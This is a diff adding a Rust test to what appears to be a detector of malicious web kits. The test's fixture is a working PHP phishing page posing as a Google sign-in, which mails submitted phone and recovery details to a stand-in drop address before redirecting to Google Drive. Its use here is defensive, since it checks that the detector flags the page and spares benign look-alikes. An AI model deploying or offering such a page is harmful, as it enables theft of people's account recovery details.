@@ -464,3 +464,19 @@ fn each_kit_word_is_read_as_its_list_says() {
     assert!(kit_word(b"file_put_contents") == KitWord::PathChange(WRITES_BIT));
     assert!(kit_word(b"strlen") == KitWord::None);
 }
+
+#[test]
+fn a_page_dressed_as_a_providers_sign_in_that_mails_what_it_is_sent_is_phishing() {
+    let page = "<?php if (isset($_POST['phone'])) { $phone = $_POST['phone']; $rec = $_POST['recovery'];\n\
+                $msg = \"phone: \" . $phone . \"\\nrecovery: \" . $rec; mail('drop@example.net', 'Gmail', $msg);\n\
+                header('Location: https://drive.google.com/'); die(); } ?>\n\
+                <html><head><title>Sign in - Google Accounts</title></head><body><form method=post>\n\
+                <input name=phone><input name=recovery></form></body></html>";
+    assert_eq!(found(page), [Why::PhishingPage]);
+    // A shop's contact form mails the same fields; a sign-in page of the site's own mails nothing.
+    let contact = page.replace("Sign in - Google Accounts", "Contact us - Demo Shop");
+    assert!(found(&contact).is_empty(), "{:?}", found(&contact));
+    let own =
+        "<html><head><title>Log in with Google | Demo Shop</title></head><body><?php echo $button; ?></body></html>";
+    assert!(found(own).is_empty());
+}
